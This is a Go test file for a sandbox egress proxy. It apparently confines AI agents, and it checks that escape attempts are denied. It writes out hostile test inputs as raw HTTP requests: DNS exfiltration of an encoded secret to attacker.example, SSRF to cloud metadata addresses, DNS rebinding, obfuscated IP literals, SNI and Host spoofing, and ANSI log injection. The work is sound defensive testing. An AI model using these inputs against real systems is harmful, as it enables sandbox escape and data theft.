package egress

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/netip"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/clawcage/clawcage/internal/egress/egresstest"
	"github.com/clawcage/clawcage/internal/policy"
)

// syncBuffer is a log sink safe for concurrent writers.
type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

type recordingSink struct {
	mu  sync.Mutex
	got []Denial
}

func (r *recordingSink) Denied(_ context.Context, d Denial) string {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.got = append(r.got, d)
	return fmt.Sprintf("id%d", len(r.got))
}

type harness struct {
	addr  string
	proxy *Proxy
	res   *egresstest.Resolver
	logs  *syncBuffer
	sink  *recordingSink
	dials chan string
}

func compile(t testing.TB, yaml string) *policy.Matcher {
	t.Helper()
	p, err := policy.Parse([]byte(yaml), "test.yaml")
	if err != nil {
		t.Fatal(err)
	}
	m, err := p.Compile(policy.CompileOptions{})
	if err != nil {
		t.Fatal(err)
	}
	return m
}

// startProxy serves a proxy for sandbox "sb" with policy yaml on loopback.
func startProxy(t testing.TB, yaml string, opts Options) *harness {
	t.Helper()
	h := &harness{res: egresstest.NewResolver(), logs: &syncBuffer{}, sink: &recordingSink{}, dials: make(chan string, 100)}
	if opts.Resolver == nil {
		opts.Resolver = h.res
	}
	opts.Logger = slog.New(slog.NewJSONHandler(h.logs, nil))
	opts.Denials = h.sink
	d := &net.Dialer{Timeout: 5 * time.Second}
	opts.Dial = func(ctx context.Context, network, addr string) (net.Conn, error) {
		select {
		case h.dials <- addr:
		default:
		}
		return d.DialContext(ctx, network, addr)
	}
	h.proxy = New(opts)
	h.proxy.SetPolicy("sb", compile(t, yaml))
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	h.addr = ln.Addr().String()
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- h.proxy.Serve(ctx, ln, "sb") }()
	t.Cleanup(func() {
		cancel()
		select {
		case <-done:
		case <-time.After(10 * time.Second):
			t.Error("proxy did not stop")
		}
	})
	return h
}

func TestServeRefusedWithoutPolicy(t *testing.T) {
	p := New(Options{})
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	err = p.Serve(context.Background(), ln, "nobody")
	if err == nil || !strings.Contains(err.Error(), "no policy loaded") {
		t.Fatalf("Serve without policy = %v, want refusal", err)
	}
	if _, err := net.Dial("tcp", ln.Addr().String()); err == nil {
		t.Fatal("listener still accepts after refusal")
	}
}

// TestAttackMatrix sends CONNECTs the agent could use to escape through a
// real proxy on loopback, with a fake resolver answering special ranges.
func TestAttackMatrix(t *testing.T) {
	tlsUp := egresstest.StartTLSEcho(t)
	port := tlsUp.Port()
	pol := fmt.Sprintf(`
network:
  - {name: lo, cidrs: [127.0.0.0/8], ports: [%[1]d]}
  - {name: app, hosts: [app.example.com, "*.wild.example.com"], ports: [%[1]d]}
  - {name: public, hosts: [public.example.com, inference.local, gateway.local, localhost], ports: [%[1]d, 443, 8080, 18790]}
`, port)
	h := startProxy(t, pol, Options{})
	answers := map[string]string{
		"app.example.com":        "127.0.0.1",
		"a.wild.example.com":     "127.0.0.1",
		"a.b.wild.example.com":   "127.0.0.1",
		"wild.example.com":       "127.0.0.1",
		"evilwild.example.com":   "127.0.0.1",
		"public.example.com":     "", // set per case
		"inference.local":        "127.0.0.1",
		"gateway.local":          "127.0.0.1",
		"notallowed.example.com": "93.184.216.34",
	}
	for n, a := range answers {
		if a != "" {
			h.res.Set(n, a)
		}
	}
	cases := []struct {
		name   string
		target string
		answer string // for public.example.com
		status int
		reason string
	}{
		{"allowed name via explicit loopback cidr", fmt.Sprintf("app.example.com:%d", port), "", 200, ""},
		{"allowed name, trailing dot and case", fmt.Sprintf("APP.Example.COM.:%d", port), "", 200, ""},
		{"wildcard one label", fmt.Sprintf("a.wild.example.com:%d", port), "", 200, ""},
		{"wildcard two labels", fmt.Sprintf("a.b.wild.example.com:%d", port), "", 200, ""},
		{"wildcard does not match its base", fmt.Sprintf("wild.example.com:%d", port), "", 403, policy.ReasonNoRuleForHost},
		{"wildcard does not match suffix without dot", fmt.Sprintf("evilwild.example.com:%d", port), "", 403, policy.ReasonNoRuleForHost},
		{"unlisted name", "notallowed.example.com:443", "", 403, policy.ReasonNoRuleForHost},
		{"allowed name on other port", "app.example.com:444", "", 403, policy.ReasonPortNotAllowed},
		{"name resolving to loopback without cidr", "public.example.com:443", "127.0.0.1", 403, policy.ReasonSpecialAddress},
		{"name resolving to private", "public.example.com:443", "10.0.0.1", 403, policy.ReasonSpecialAddress},
		{"name resolving to metadata", "public.example.com:443", "169.254.169.254", 403, policy.ReasonSpecialAddress},
		{"name resolving to CGNAT", "public.example.com:443", "100.64.0.1", 403, policy.ReasonSpecialAddress},
		{"name resolving to unspecified", "public.example.com:443", "0.0.0.0", 403, policy.ReasonSpecialAddress},
		{"name resolving to documentation", "public.example.com:443", "192.0.2.1", 403, policy.ReasonSpecialAddress},
		{"name resolving to IPv6 loopback", "public.example.com:443", "::1", 403, policy.ReasonSpecialAddress},
		{"name resolving to ULA", "public.example.com:443", "fd00::1", 403, policy.ReasonSpecialAddress},
		{"name resolving to IPv4-mapped loopback", "public.example.com:443", "::ffff:127.0.0.1", 403, policy.ReasonSpecialAddress},
		{"name resolving to NAT64 metadata", "public.example.com:443", "64:ff9b::a9fe:a9fe", 403, policy.ReasonSpecialAddress},
		{"name resolving to 6to4 of private", "public.example.com:443", "2002:0a00:0001::1", 403, policy.ReasonSpecialAddress},
		{"mixed answer public and loopback", "public.example.com:443", "93.184.216.34,127.0.0.1", 403, policy.ReasonSpecialAddress},
		{"decimal IPv4", "2130706433:443", "", 403, policy.ReasonInvalidHost},
		{"hex IPv4", "0x7f.1:443", "", 403, policy.ReasonInvalidHost},
		{"short IPv4", "127.1:443", "", 403, policy.ReasonInvalidHost},
		{"octal IPv4", "0177.0.0.1:443", "", 403, policy.ReasonInvalidHost},
		{"unbracketed IPv6", "::1:443", "", 400, ReasonBadRequest},
		{"bracketed IPv6 loopback", "[::1]:443", "", 403, policy.ReasonNoRuleForAddress},
		{"IPv4-mapped literal in cidr range", fmt.Sprintf("[::ffff:127.0.0.1]:%d", port), "", 200, ""},
		{"metadata literal", "169.254.169.254:80", "", 403, policy.ReasonNoRuleForAddress},
		{"port zero", "app.example.com:0", "", 400, ReasonBadRequest},
		{"port out of range", "app.example.com:70000", "", 400, ReasonBadRequest},
		{"missing port", "app.example.com", "", 400, ReasonBadRequest},
		{"inference.local even if a rule names it", "inference.local:8080", "", 403, ReasonReserved},
		{"gateway.local upper case", "GATEWAY.LOCAL.:18790", "", 403, ReasonReserved},
		{"localhost even if a rule names it", "localhost:443", "", 403, ReasonReserved},
		{"subdomain of localhost", "x.localhost:443", "", 403, ReasonReserved},
		{"fullwidth spelling of a denied name", "ｎｏｔａｌｌｏｗｅｄ.example.com:443", "", 403, policy.ReasonNoRuleForHost},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if tc.answer != "" {
				h.res.Set("public.example.com", tc.answer)
			}
			r := egresstest.Connect(t, h.addr, tc.target)
			if r.Status != tc.status {
				t.Fatalf("CONNECT %s: status %d (%v), want %d", tc.target, r.Status, r.Body, tc.status)
			}
			if tc.status == 200 {
				host := strings.TrimSuffix(strings.ToLower(tc.target[:strings.LastIndexByte(tc.target, ':')]), ".")
				if strings.HasPrefix(host, "[") {
					host = "" // IP literal: no SNI needed
				}
				if got, err := egresstest.TLSThrough(r, host, "ping"); err != nil || got != "ping" {
					t.Fatalf("through tunnel: %q, %v", got, err)
				}
				return
			}
			if r.Reason() != tc.reason {
				t.Fatalf("reason %q (%v), want %q", r.Reason(), r.Body, tc.reason)
			}
			if tc.status == 403 && r.Body["error"] != "egress_denied" {
				t.Fatalf("error %v, want egress_denied", r.Body["error"])
			}
		})
	}
}

func TestEmptyPolicyDeniesEverything(t *testing.T) {
	up := egresstest.StartEcho(t)
	h := startProxy(t, "network: []\n", Options{})
	h.res.Set("example.com", "93.184.216.34")
	for _, target := range []string{"example.com:443", up.Addr.String(), "1.1.1.1:443", "[2606:4700::1111]:443"} {
		if r := egresstest.Connect(t, h.addr, target); r.Status != 403 {
			t.Errorf("CONNECT %s with empty policy: %d, want 403", target, r.Status)
		}
	}
	r := egresstest.SendRaw(t, h.addr, "GET http://example.com/ HTTP/1.1\r\nHost: example.com\r\n\r\n")
	if r.Status != 403 {
		t.Errorf("GET with empty policy: %d", r.Status)
	}
	if h.res.Count() != 0 || up.Accepted() != 0 {
		t.Errorf("lookups %d, upstream connections %d; want none", h.res.Count(), up.Accepted())
	}
}

// TestDeniedNamesAreNeverLookedUp: DNS exfiltration through the proxy.
func TestDeniedNamesAreNeverLookedUp(t *testing.T) {
	h := startProxy(t, `
network:
  - {name: gh, hosts: [api.github.com], ports: [443], methods: [GET]}
  - {name: plain, hosts: [plain.example.com], ports: [80]}
`, Options{})
	reqs := []string{
		"CONNECT c2VjcmV0.attacker.example:443 HTTP/1.1\r\nHost: c2VjcmV0.attacker.example:443\r\n\r\n",
		"CONNECT api.github.com.attacker.example:443 HTTP/1.1\r\n\r\n",
		"CONNECT plain.example.com:443 HTTP/1.1\r\n\r\n", // right host, wrong port
		"GET http://c2VjcmV0.attacker.example/ HTTP/1.1\r\nHost: c2VjcmV0.attacker.example\r\n\r\n",
		"POST http://api.github.com:443/repos HTTP/1.1\r\nHost: api.github.com:443\r\nContent-Length: 0\r\n\r\n", // method denied
		"CONNECT api.github.com:443 HTTP/1.1\r\n\r\n",                                                            // tunnel to a method-restricted rule
		"GET http://plain.example.com/ HTTP/1.1\r\nHost: c2VjcmV0.attacker.example\r\n\r\n",                      // Host mismatch
		"GET http://2130706433/ HTTP/1.1\r\nHost: 2130706433\r\n\r\n",
	}
	for _, raw := range reqs {
		r := egresstest.SendRaw(t, h.addr, raw)
		if r.Status != 403 {
			t.Errorf("%q: status %d (%v), want 403", raw, r.Status, r.Body)
		}
	}
	if n := h.res.Count(); n != 0 {
		t.Fatalf("resolver was asked %d times for denied names, want 0", n)
	}
}

// TestRebindingDialsTheCheckedAddress: the name is resolved once per
// request and exactly the checked address is dialled; a later answer in a
// special range is denied.
func TestRebindingDialsTheCheckedAddress(t *testing.T) {
	up := egresstest.StartTLSEcho(t)
	h := startProxy(t, fmt.Sprintf(`
network:
  - {name: lo, cidrs: [127.0.0.1/32], ports: [%[1]d]}
  - {name: app, hosts: [rebind.example.com], ports: [%[1]d]}
`, up.Port()), Options{})
	h.res.Set("rebind.example.com", "127.0.0.1", "169.254.169.254", "10.1.2.3")
	target := fmt.Sprintf("rebind.example.com:%d", up.Port())
	r := egresstest.Connect(t, h.addr, target)
	if r.Status != 200 {
		t.Fatalf("first CONNECT: %d %v", r.Status, r.Body)
	}
	if got := <-h.dials; got != up.Addr.String() {
		t.Fatalf("dialled %s, want the checked %s", got, up.Addr)
	}
	if _, err := egresstest.TLSThrough(r, "rebind.example.com", "x"); err != nil {
		t.Fatal(err)
	}
	if n := h.res.Asked("rebind.example.com"); n != 1 {
		t.Fatalf("resolved %d times for one CONNECT, want 1", n)
	}
	for _, want := range []string{"169.254.169.254", "10.1.2.3"} {
		r = egresstest.Connect(t, h.addr, target)
		if r.Status != 403 || r.Reason() != policy.ReasonSpecialAddress {
			t.Fatalf("CONNECT after rebinding to %s: %d %v", want, r.Status, r.Body)
		}
		if !strings.Contains(fmt.Sprint(r.Body["detail"]), want) {
			t.Errorf("detail %v does not name %s", r.Body["detail"], want)
		}
	}
	if len(h.dials) != 0 {
		t.Fatalf("dialled %s after rebinding", <-h.dials)
	}
}

func TestConnectToProxyItself(t *testing.T) {
	h := startProxy(t, "network: []\n", Options{})
	_, portStr, _ := net.SplitHostPort(h.addr)
	h.proxy.SetPolicy("sb", compile(t, fmt.Sprintf(`
network:
  - {name: lo, cidrs: [127.0.0.0/8], ports: [%[1]s]}
  - {name: self, hosts: [self.example.com], ports: [%[1]s]}
`, portStr)))
	h.res.Set("self.example.com", "127.0.0.1")
	for _, target := range []string{h.addr, "127.0.0.2:" + portStr, "[::ffff:127.0.0.1]:" + portStr, "self.example.com:" + portStr} {
		r := egresstest.Connect(t, h.addr, target)
		if r.Status != 403 || r.Reason() != ReasonProxyItself {
			t.Errorf("CONNECT %s: %d %v, want 403 %s", target, r.Status, r.Body, ReasonProxyItself)
		}
	}
	r := egresstest.SendRaw(t, h.addr, fmt.Sprintf("GET http://%s/ HTTP/1.1\r\nHost: %s\r\n\r\n", h.addr, h.addr))
	if r.Status != 403 || r.Reason() != ReasonProxyItself {
		t.Errorf("GET via proxy to itself: %d %v", r.Status, r.Body)
	}
}

// TestSNIMustMatchConnectHost: after the 200 the ClientHello must name the
// CONNECT host; otherwise the upstream never receives a byte.
func TestSNIMustMatchConnectHost(t *testing.T) {
	up := egresstest.StartEcho(t) // raw: counts bytes that would leak
	h := startProxy(t, fmt.Sprintf(`
network:
  - {name: lo, cidrs: [127.0.0.0/8], ports: [%[1]d]}
  - {name: app, hosts: [app.example.com], ports: [%[1]d]}
`, up.Port()), Options{HeaderTimeout: 2 * time.Second})
	h.res.Set("app.example.com", "127.0.0.1")
	target := fmt.Sprintf("app.example.com:%d", up.Port())
	cases := []struct {
		name string
		send func(r *egresstest.Response) error
	}{
		{"other SNI", func(r *egresstest.Response) error { _, err := egresstest.TLSConn(r, "evil.example"); return err }},
		{"no SNI", func(r *egresstest.Response) error { _, err := egresstest.TLSConn(r, ""); return err }},
		{"suffix SNI", func(r *egresstest.Response) error {
			_, err := egresstest.TLSConn(r, "app.example.com.evil.example")
			return err
		}},
		{"plain bytes", func(r *egresstest.Response) error { _, err := egresstest.Echo(r, "GET / HTTP/1.1\r\n\r\n"); return err }},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			r := egresstest.Connect(t, h.addr, target)
			if r.Status != 200 {
				t.Fatalf("CONNECT: %d", r.Status)
			}
			if err := tc.send(r); err == nil {
				t.Fatal("exchange succeeded, want the tunnel closed")
			}
		})
	}
	time.Sleep(50 * time.Millisecond)
	if n := up.Received(); n != 0 {
		t.Fatalf("upstream received %d bytes through mismatched tunnels", n)
	}
	logs := h.logs.String()
	for _, reason := range []string{ReasonSNIMismatch, ReasonNotTLS} {
		if !strings.Contains(logs, `"reason":"`+reason+`"`) {
			t.Errorf("no %s decision logged:\n%s", reason, logs)
		}
	}
}

// TestIPLiteralTunnelNeedsNoTLS: a cidr rule (database) carries any protocol.
func TestIPLiteralTunnelNeedsNoTLS(t *testing.T) {
	up := egresstest.StartEcho(t)
	h := startProxy(t, fmt.Sprintf("network:\n  - {name: db, cidrs: [127.0.0.0/8], ports: [%d]}\n", up.Port()), Options{})
	r := egresstest.Connect(t, h.addr, up.Addr.String())
	if r.Status != 200 {
		t.Fatalf("CONNECT: %d %v", r.Status, r.Body)
	}
	if got, err := egresstest.Echo(r, "SELECT 1;"); err != nil || got != "SELECT 1;" {
		t.Fatalf("echo %q, %v", got, err)
	}
}

func TestHostHeaderMismatch(t *testing.T) {
	h := startProxy(t, "network:\n  - {name: plain, hosts: [plain.example.com], ports: [80, 443]}\n", Options{})
	cases := []struct{ name, raw string }{
		{"absolute URI vs other Host", "GET http://plain.example.com/ HTTP/1.1\r\nHost: evil.example\r\n\r\n"},
		{"absolute URI vs other port", "GET http://plain.example.com/ HTTP/1.1\r\nHost: plain.example.com:8080\r\n\r\n"},
		{"CONNECT vs other Host", "CONNECT plain.example.com:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n"},
		{"CONNECT vs other Host without port", "CONNECT plain.example.com:443 HTTP/1.1\r\nHost: evil.example\r\n\r\n"},
		{"CONNECT vs same host, other port", "CONNECT plain.example.com:443 HTTP/1.1\r\nHost: plain.example.com:80\r\n\r\n"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			r := egresstest.SendRaw(t, h.addr, tc.raw)
			if r.Status != 403 || r.Reason() != ReasonHostMismatch {
				t.Fatalf("%d %v, want 403 %s", r.Status, r.Body, ReasonHostMismatch)
			}
		})
	}
	if r := egresstest.SendRaw(t, h.addr, "GET http://plain.example.com/ HTTP/1.1\r\nHost: plain.example.com\r\nHost: evil.example\r\n\r\n"); r.Status != 400 {
		t.Errorf("two Host headers: %d %v, want 400", r.Status, r.Body)
	}
	if h.res.Count() != 0 {
		t.Fatalf("%d lookups for mismatched requests", h.res.Count())
	}
	// A CONNECT Host header without the port names the same authority.
	if r := egresstest.SendRaw(t, h.addr, "CONNECT plain.example.com:443 HTTP/1.1\r\nHost: plain.example.com\r\n\r\n"); r.Status != 502 || r.Reason() != ReasonDNSFailed {
		t.Errorf("CONNECT with port-less Host: %d %v, want it past the check (502 %s from the empty resolver)", r.Status, r.Body, ReasonDNSFailed)
	}
}

func TestDenialBodyAndEvent(t *testing.T) {
	h := startProxy(t, "network: []\n", Options{})
	r := egresstest.Connect(t, h.addr, "Denied.Example.com:8443")
	want := map[string]any{"error": "egress_denied", "host": "denied.example.com", "port": float64(8443), "rule": "", "reason": policy.ReasonNoRuleForHost, "approve": "clawcage policy approve id1"}
	for k, v := range want {
		if r.Body[k] != v {
			t.Errorf("body[%s] = %v, want %v (body %v)", k, r.Body[k], v, r.Body)
		}
	}
	h.sink.mu.Lock()
	defer h.sink.mu.Unlock()
	if len(h.sink.got) != 1 || h.sink.got[0].Host != "denied.example.com" || h.sink.got[0].Port != 8443 || h.sink.got[0].Sandbox != "sb" || h.sink.got[0].Method != "CONNECT" {
		t.Fatalf("denial events %+v", h.sink.got)
	}
}

// TestPlainForward checks absolute-form forwarding, keep-alive, and
// method/path rules.
func TestPlainForward(t *testing.T) {
	var mu sync.Mutex
	var seen []string
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		seen = append(seen, r.Method+" "+r.RequestURI+" host="+r.Host+" pa="+r.Header.Get("Proxy-Authorization"))
		mu.Unlock()
		io.WriteString(w, "hello "+r.URL.Path)
	})}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	port := netip.MustParseAddrPort(ln.Addr().String()).Port()
	h := startProxy(t, fmt.Sprintf(`
network:
  - {name: lo, cidrs: [127.0.0.0/8], ports: [%[1]d]}
  - {name: api, hosts: [api.example.com], ports: [%[1]d], methods: [GET], paths: ["/ok/**"]}
`, port), Options{})
	h.res.Set("api.example.com", "127.0.0.1")
	c, err := net.Dial("tcp", h.addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(10 * time.Second))
	br := newReader(c)
	for i, path := range []string{"/ok/a", "/ok/b?q=1"} {
		fmt.Fprintf(c, "GET http://api.example.com:%d%s HTTP/1.1\r\nHost: api.example.com:%d\r\nProxy-Authorization: secret\r\n\r\n", port, path, port)
		resp, err := http.ReadResponse(br, nil)
		if err != nil {
			t.Fatalf("request %d: %v", i, err)
		}
		body, _ := io.ReadAll(resp.Body)
		if resp.StatusCode != 200 || !strings.HasPrefix(string(body), "hello /ok/") {
			t.Fatalf("request %d: %d %q", i, resp.StatusCode, body)
		}
	}
	mu.Lock()
	if len(seen) != 2 || seen[0] != fmt.Sprintf("GET /ok/a host=api.example.com:%d pa=", port) || seen[1] != fmt.Sprintf("GET /ok/b?q=1 host=api.example.com:%d pa=", port) {
		t.Errorf("upstream saw %q", seen)
	}
	mu.Unlock()
	for _, tc := range []struct{ name, raw, reason string }{
		{"method not allowed", fmt.Sprintf("POST http://api.example.com:%d/ok/a HTTP/1.1\r\nContent-Length: 0\r\n\r\n", port), policy.ReasonMethodNotAllowed},
		{"path not allowed", fmt.Sprintf("GET http://api.example.com:%d/admin HTTP/1.1\r\n\r\n", port), policy.ReasonPathNotAllowed},
		{"dot segments", fmt.Sprintf("GET http://api.example.com:%d/ok/../admin HTTP/1.1\r\n\r\n", port), policy.ReasonInvalidPath},
		{"encoded slash", fmt.Sprintf("GET http://api.example.com:%d/ok/..%%2fadmin HTTP/1.1\r\n\r\n", port), policy.ReasonInvalidPath},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := egresstest.SendRaw(t, h.addr, tc.raw)
			if r.Status != 403 || r.Reason() != tc.reason {
				t.Fatalf("%d %v, want 403 %s", r.Status, r.Body, tc.reason)
			}
		})
	}
	for _, raw := range []string{"GET /ok/a HTTP/1.1\r\nHost: api.example.com\r\n\r\n", "GET https://api.example.com/ HTTP/1.1\r\n\r\n", "GET http://user@api.example.com/ HTTP/1.1\r\n\r\n"} {
		if r := egresstest.SendRaw(t, h.addr, raw); r.Status != 400 {
			t.Errorf("%q: %d, want 400", raw, r.Status)
		}
	}
}

func TestTunnelCap(t *testing.T) {
	up := egresstest.StartEcho(t)
	h := startProxy(t, fmt.Sprintf("network:\n  - {name: db, cidrs: [127.0.0.0/8], ports: [%d]}\n", up.Port()), Options{MaxTunnels: 2})
	var open []*egresstest.Response
	for i := 0; i < 2; i++ {
		r := egresstest.Connect(t, h.addr, up.Addr.String())
		if r.Status != 200 {
			t.Fatalf("tunnel %d: %d", i, r.Status)
		}
		if _, err := egresstest.Echo(r, "x"); err != nil {
			t.Fatal(err)
		}
		open = append(open, r)
	}
	r := egresstest.Connect(t, h.addr, up.Addr.String())
	if r.Status != 429 || r.Reason() != ReasonTooManyTunnels {
		t.Fatalf("third tunnel: %d %v, want 429 %s", r.Status, r.Body, ReasonTooManyTunnels)
	}
	open[0].Conn.Close()
	deadline := time.Now().Add(5 * time.Second)
	for h.proxy.LiveTunnels("sb") > 1 && time.Now().Before(deadline) {
		time.Sleep(10 * time.Millisecond)
	}
	if r := egresstest.Connect(t, h.addr, up.Addr.String()); r.Status != 200 {
		t.Fatalf("tunnel after one closed: %d %v", r.Status, r.Body)
	}
}

func TestRequestRateLimit(t *testing.T) {
	h := startProxy(t, "network: []\n", Options{RequestRate: 0.001, RequestBurst: 3})
	for i := 0; i < 3; i++ {
		if r := egresstest.Connect(t, h.addr, "x.example:443"); r.Status != 403 {
			t.Fatalf("request %d: %d", i, r.Status)
		}
	}
	if r := egresstest.Connect(t, h.addr, "x.example:443"); r.Status != 429 || r.Reason() != ReasonRateLimited {
		t.Fatalf("over the rate: %d %v", r.Status, r.Body)
	}
}

// TestSlowClients: a client that never finishes its header is cut off by
// the header timeout; an idle established tunnel is not.
func TestSlowClients(t *testing.T) {
	up := egresstest.StartEcho(t)
	h := startProxy(t, fmt.Sprintf("network:\n  - {name: db, cidrs: [127.0.0.0/8], ports: [%d]}\n", up.Port()),
		Options{HeaderTimeout: 200 * time.Millisecond, IdleTimeout: 200 * time.Millisecond})
	c, err := net.Dial("tcp", h.addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	io.WriteString(c, "CONNECT 127.0.0.1:")
	c.SetReadDeadline(time.Now().Add(5 * time.Second))
	if _, err := c.Read(make([]byte, 1)); err != io.EOF {
		t.Fatalf("slowloris read: %v, want EOF from the proxy closing", err)
	}
	// A name tunnel whose ClientHello never comes is closed too.
	h.proxy.SetPolicy("sb", compile(t, fmt.Sprintf("network:\n  - {name: db, cidrs: [127.0.0.0/8], ports: [%[1]d]}\n  - {name: app, hosts: [app.example.com], ports: [%[1]d]}\n", up.Port())))
	h.res.Set("app.example.com", "127.0.0.1")
	silent := egresstest.Connect(t, h.addr, fmt.Sprintf("app.example.com:%d", up.Port()))
	if silent.Status != 200 {
		t.Fatalf("CONNECT: %d", silent.Status)
	}
	silent.Conn.SetReadDeadline(time.Now().Add(5 * time.Second))
	if _, err := silent.Reader.ReadByte(); err != io.EOF {
		t.Fatalf("tunnel without ClientHello: %v, want EOF", err)
	}
	r := egresstest.Connect(t, h.addr, up.Addr.String())
	if r.Status != 200 {
		t.Fatalf("CONNECT: %d", r.Status)
	}
	time.Sleep(700 * time.Millisecond) // idle well past both timeouts
	if got, err := egresstest.Echo(r, "still here"); err != nil || got != "still here" {
		t.Fatalf("idle tunnel: %q, %v", got, err)
	}
}

// TestDecisionLogEscapesSandboxStrings: control characters and ANSI
// escapes from the sandbox never reach the log raw.
func TestDecisionLogEscapesSandboxStrings(t *testing.T) {
	h := startProxy(t, "network: []\n", Options{})
	egresstest.SendRaw(t, h.addr, "GET http://a.example/ HTTP/1.1\r\nHost: \x1b[31mevil\x07.example\r\n\r\n")
	egresstest.SendRaw(t, h.addr, "GET http://a.example/ HTTP/1.1\r\nHost: evil\u202e\u200b.example\r\n\r\n")
	egresstest.SendRaw(t, h.addr, "CONNECT a.example:443 HTTP/1.1\r\n\r\n")
	logs := h.logs.String()
	if strings.ContainsAny(logs, "\x1b\x07\u202e\u200b") || strings.Contains(logs, `\u001b`) {
		t.Fatalf("raw or merely JSON-escaped control characters in log:\n%q", logs)
	}
	if !strings.Contains(logs, `evil\\u202e\\u200b.example`) {
		t.Fatalf("escaped host missing from log:\n%s", logs)
	}
	lines := strings.Split(strings.TrimSpace(logs), "\n")
	if len(lines) != 3 {
		t.Fatalf("%d log lines for 3 requests:\n%s", len(lines), logs)
	}
	for _, key := range []string{`"sandbox":"sb"`, `"host":"a.example"`, `"port":443`, `"method":"CONNECT"`, `"decision":"deny"`, `"rule":""`, `"reason":"no-rule-for-host"`, `"duration":`} {
		if !strings.Contains(lines[2], key) {
			t.Errorf("decision line lacks %s: %s", key, lines[2])
		}
	}
}

func TestCloseTunnelsByRule(t *testing.T) {
	up := egresstest.StartEcho(t)
	h := startProxy(t, fmt.Sprintf(`
network:
  - {name: db, cidrs: [127.0.0.1/32], ports: [%[1]d]}
  - {name: db2, cidrs: [127.0.0.2/32], ports: [%[1]d]}
`, up.Port()), Options{})
	r1 := egresstest.Connect(t, h.addr, up.Addr.String())
	if _, err := egresstest.Echo(r1, "a"); err != nil {
		t.Fatal(err)
	}
	if n := h.proxy.CloseTunnels("sb", "db2"); n != 0 {
		t.Fatalf("closed %d tunnels of an unused rule", n)
	}
	if n := h.proxy.CloseTunnels("sb", "db"); n != 1 {
		t.Fatalf("closed %d tunnels, want 1", n)
	}
	if _, err := egresstest.Echo(r1, "b"); err == nil {
		t.Fatal("tunnel still works after its rule's tunnels were closed")
	}
}

func newReader(c net.Conn) *bufio.Reader { return bufio.NewReader(c) }

// hookResolver runs hook during the lookup: between the name decision and
// the connection's registration.
type hookResolver struct {
	Resolver
	hook func()
}

func (h hookResolver) LookupNetIP(ctx context.Context, network, host string) ([]netip.Addr, error) {
	h.hook()
	return h.Resolver.LookupNetIP(ctx, network, host)
}

// TestRevokedDuringSetup: a rule removed after a request was decided but
// before its tunnel was registered must not leave a live tunnel behind.
func TestRevokedDuringSetup(t *testing.T) {
	up := egresstest.StartTLSEcho(t)
	with := fmt.Sprintf("network:\n  - {name: lo, cidrs: [127.0.0.0/8], ports: [%[1]d]}\n  - {name: app, hosts: [app.example.com], ports: [%[1]d]}\n", up.Port())
	without := fmt.Sprintf("network:\n  - {name: lo, cidrs: [127.0.0.0/8], ports: [%[1]d]}\n", up.Port())
	res := egresstest.NewResolver()
	res.Set("app.example.com", "127.0.0.1")
	var px atomic.Pointer[Proxy]
	h := startProxy(t, with, Options{Resolver: hookResolver{res, func() {
		px.Load().SetPolicy("sb", compile(t, without))
		px.Load().CloseTunnels("sb", "app")
	}}})
	px.Store(h.proxy)
	r := egresstest.Connect(t, h.addr, fmt.Sprintf("app.example.com:%d", up.Port()))
	if r.Status != 403 || r.Reason() != ReasonRevoked {
		t.Fatalf("CONNECT whose rule was revoked during setup: %d %v, want 403 %s", r.Status, r.Body, ReasonRevoked)
	}
	deadline := time.Now().Add(5 * time.Second)
	for h.proxy.LiveTunnels("sb") != 0 && time.Now().Before(deadline) {
		time.Sleep(5 * time.Millisecond) // the handler unregisters after answering
	}
	if n := h.proxy.LiveTunnels("sb"); n != 0 {
		t.Fatalf("%d live tunnels after revocation", n)
	}
}

// TestRemoveSandbox: removing a sandbox closes its tunnels and listener
// and refuses to serve it again until it has a policy anew.
func TestRemoveSandbox(t *testing.T) {
	up := egresstest.StartEcho(t)
	h := startProxy(t, fmt.Sprintf("network:\n  - {name: db, cidrs: [127.0.0.0/8], ports: [%d]}\n", up.Port()), Options{})
	r := egresstest.Connect(t, h.addr, up.Addr.String())
	if _, err := egresstest.Echo(r, "a"); err != nil {
		t.Fatal(err)
	}
	if n := h.proxy.RemoveSandbox("sb"); n != 1 {
		t.Fatalf("RemoveSandbox closed %d tunnels, want 1", n)
	}
	if _, err := egresstest.Echo(r, "b"); err == nil {
		t.Fatal("tunnel of a removed sandbox still relays")
	}
	if h.proxy.Matcher("sb") != nil {
		t.Fatal("removed sandbox still has a matcher")
	}
	deadline := time.Now().Add(5 * time.Second)
	for {
		c, err := net.DialTimeout("tcp", h.addr, time.Second)
		if err != nil {
			break // the listener is closed
		}
		c.Close()
		if time.Now().After(deadline) {
			t.Fatal("listener of a removed sandbox still accepts")
		}
		time.Sleep(10 * time.Millisecond)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	if err := h.proxy.Serve(context.Background(), ln, "sb"); err == nil || !strings.Contains(err.Error(), "no policy loaded") {
		t.Fatalf("Serve after RemoveSandbox: %v, want a refusal", err)
	}
	if n := h.proxy.RemoveSandbox("sb"); n != 0 {
